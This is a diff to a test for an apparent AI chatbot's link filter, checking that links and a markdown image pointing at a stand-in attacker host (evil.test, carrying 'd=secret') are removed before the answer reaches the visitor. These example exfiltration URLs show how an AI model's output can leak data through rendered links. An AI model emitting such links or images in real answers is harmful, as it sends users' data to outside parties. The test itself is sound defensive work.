@@ -81,7 +81,7 @@ worldTest("A link to a host that no passage names never reaches the visitor", as
   fake.script({
     text:
       "See [the guide](https://docs.acme.test/export) or [log in](https://evil.test/?d=secret) " +
-      "and ![x](https://evil.test/pixel?d=secret) and https://evil.test/raw then go on and on.",
+      "and ![x](https://evil.test/pixel?d=secret) and https://evil.test/raw then go on [1] and on.",
     delay: 30,
   });
   const session = await world.write("How do I export my data?");
@@ -89,7 +89,7 @@ worldTest("A link to a host that no passage names never reaches the visitor", as
   const [, answer] = await world.said(session);
   assert.equal(
     answer,
-    "ai: See [the guide](https://docs.acme.test/export) or log in and x and (link removed) then go on and on.",
+    "ai: See [the guide](https://docs.acme.test/export) or log in and x and (link removed) then go on [1] and on.",
   );
   assert.ok(signals.some(({ type }) => type === "draft"));
   assert.ok(!JSON.stringify(signals).includes("evil.test"));
